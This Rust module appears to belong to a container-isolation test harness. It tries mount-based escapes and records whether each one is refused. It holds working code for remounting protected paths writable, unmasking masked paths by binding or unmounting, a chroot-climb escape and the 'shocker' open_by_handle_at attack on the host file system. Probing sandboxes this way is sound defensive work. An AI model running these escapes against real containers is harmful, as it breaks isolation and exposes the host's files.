//! Attacks on mounts: creating, weakening and removing them, by the old call and by the calls that use descriptors.

use std::fs;

use nix::errno::Errno;

use crate::calls::{address, call, mount, open, text};
use crate::outcome::{Outcome, not_live};

const HERE: usize = libc::AT_FDCWD as usize;
/// The mount point of attacks: the container's own temporary directory.
const PLACE: &str = "/tmp";

/// The attacks of this module.
pub fn attack(name: &str, arguments: &[String]) -> Option<Outcome> {
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    Some(match (name, words.as_slice()) {
        ("mount", [kind]) => mount(kind, PLACE, kind, 0).into(),
        ("mount", [kind, target]) => mount(kind, target, kind, 0).into(),
        ("mount-cgroup-v1", [controller]) => mount_v1(controller).into(),
        ("remount-writable", [path]) => remount_writable(path).into(),
        ("umount", [path]) => umount(path).into(),
        ("umount-then-read", [path]) => umount(path).and_then(|_| open(path, libc::O_RDONLY)).into(),
        ("move-mount-away", [path]) => mount(path, PLACE, "", libc::MS_MOVE).into(),
        ("bind-over", [path]) => mount("/dev", path, "", libc::MS_BIND).or_else(|_| bind_file(path)).into(),
        ("bind-elsewhere", [path]) => bind_elsewhere(path).into(),
        ("fsopen", []) => fsopen("tmpfs", &[]).and_then(|made| attach(made, PLACE)).into(),
        ("fsopen", [kind]) => fsopen(kind, &[]).and_then(|made| attach(made, PLACE)).into(),
        ("fspick", [path]) => fspick(path).into(),
        ("open-tree", [path]) => open_tree(libc::SYS_open_tree, path).and_then(|tree| attach(tree, PLACE)).into(),
        ("open-tree-attr", [path]) => open_tree(467, path).and_then(|tree| attach(tree, PLACE)).into(),
        ("mount-setattr", [path]) => mount_setattr(path).into(),
        ("overlay", [lower]) => fsopen("overlay", &[("lowerdir", lower), ("upperdir", ""), ("workdir", "")])
            .and_then(|made| attach(made, PLACE))
            .into(),
        ("chroot-climb", [witness]) => chroot_climb(witness),
        ("open-by-handle", []) => open_by_handle(),
        _ => return None,
    })
}

/// Removes the mount of a successful attack, so that the next one starts from the same state.
pub fn clear() {
    while umount(PLACE).is_ok() {}
}

/// A new mount of a cgroup version 1 hierarchy.
pub fn mount_v1(controller: &str) -> Result<usize, Errno> {
    let (source, target, kind, data) = (text("cgroup"), text(PLACE), text("cgroup"), text(controller));
    call(libc::SYS_mount, &[address(&source), address(&target), address(&kind), 0, address(&data)])
}

fn remount_writable(path: &str) -> Result<usize, Errno> {
    mount("", path, "", libc::MS_REMOUNT | libc::MS_BIND)
}

fn umount(path: &str) -> Result<usize, Errno> {
    let path = text(path);
    call(libc::SYS_umount2, &[address(&path), libc::MNT_DETACH as usize])
}

fn bind_file(path: &str) -> Result<usize, Errno> {
    mount("/dev/null", path, "", libc::MS_BIND)
}

/// Bind mounts the parent of a masked path elsewhere, without the mask.
fn bind_elsewhere(path: &str) -> Result<i32, Errno> {
    let (parent, name) = path.rsplit_once('/').ok_or(Errno::EINVAL)?;
    mount(parent, PLACE, "", libc::MS_BIND)?;
    let reached = open(&format!("{PLACE}/{name}"), libc::O_RDONLY)?;
    let mut byte = 0u8;
    match call(libc::SYS_read, &[reached as usize, &raw mut byte as usize, 1])? {
        0 => Err(Errno::ENODATA),
        _ => Ok(reached),
    }
}

/// A new file system that is not attached yet.
fn fsopen(kind: &str, options: &[(&str, &str)]) -> Result<usize, Errno> {
    let kind = text(kind);
    let context = call(libc::SYS_fsopen, &[address(&kind), 0])?;
    for (key, value) in options.iter().filter(|(_, value)| !value.is_empty()) {
        let (key, value) = (text(key), text(value));
        call(libc::SYS_fsconfig, &[context, 1, address(&key), address(&value), 0])?;
    }
    // FSCONFIG_CMD_CREATE
    call(libc::SYS_fsconfig, &[context, 6, 0, 0, 0])?;
    call(libc::SYS_fsmount, &[context, 0, 0])
}

fn attach(mount: usize, path: &str) -> Result<usize, Errno> {
    let (nothing, path) = (text(""), text(path));
    // MOVE_MOUNT_F_EMPTY_PATH
    call(libc::SYS_move_mount, &[mount, address(&nothing), HERE, address(&path), 4])
}

/// Reconfigures a mounted file system, to make it writable.
fn fspick(path: &str) -> Result<usize, Errno> {
    let (path, key) = (text(path), text("rw"));
    let context = call(libc::SYS_fspick, &[HERE, address(&path), 0])?;
    call(libc::SYS_fsconfig, &[context, 0, address(&key), 0, 0])?;
    // FSCONFIG_CMD_RECONFIGURE
    call(libc::SYS_fsconfig, &[context, 7, 0, 0, 0])
}

/// A copy of a mount: open_tree(2) with OPEN_TREE_CLONE.
fn open_tree(number: i64, path: &str) -> Result<usize, Errno> {
    let path = text(path);
    call(number, &[HERE, address(&path), 1, 0, 0])
}

/// Clears MOUNT_ATTR_RDONLY.
fn mount_setattr(path: &str) -> Result<usize, Errno> {
    let path = text(path);
    let change: [u64; 4] = [0, libc::MOUNT_ATTR_RDONLY, 0, 0];
    call(libc::SYS_mount_setattr, &[HERE, address(&path), 0, change.as_ptr() as usize, 32])
}

/// Escapes from a root that was only set by chroot(2): keeps a descriptor of a directory above the new root, and
/// climbs. Done if the witness, a path of the host, is found.
fn chroot_climb(witness: &str) -> Outcome {
    let climb = || -> Result<i32, Errno> {
        let top = open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
        let (below, here, up) = (text(PLACE), text("."), text(".."));
        call(libc::SYS_chroot, &[address(&below)])?;
        call(libc::SYS_fchdir, &[top as usize])?;
        for _ in 0..64 {
            call(libc::SYS_chdir, &[address(&up)])?;
        }
        call(libc::SYS_chroot, &[address(&here)])?;
        open(witness, libc::O_RDONLY)
    };
    climb().into()
}

/// The attack called shocker: a file handle is only a number, and number 2 is the root directory of an ext4 file
/// system, even if only a part of it is mounted. Tried on each mount of the container.
fn open_by_handle() -> Outcome {
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mut refusal = None;
    for place in mounts.lines().filter_map(|line| line.split(' ').nth(4)) {
        let Ok(mount) = open(place, libc::O_RDONLY | libc::O_NONBLOCK) else { continue };
        // struct file_handle: 8 bytes of inode and generation, type FILEID_INO32_GEN.
        let handle: [u32; 4] = [8, 1, 2, 0];
        let flags = (libc::O_RDONLY | libc::O_DIRECTORY) as usize;
        match call(libc::SYS_open_by_handle_at, &[mount as usize, handle.as_ptr() as usize, flags]) {
            Ok(_) => return Outcome::Done,
            // EPERM takes precedence, because file systems without handles return other errors.
            Err(errno) if errno == Errno::EPERM || refusal.is_none() => refusal = Some(errno),
            Err(_) => {}
        }
    }
    refusal.map_or_else(|| not_live("no mount could be opened"), Outcome::Refused)
}
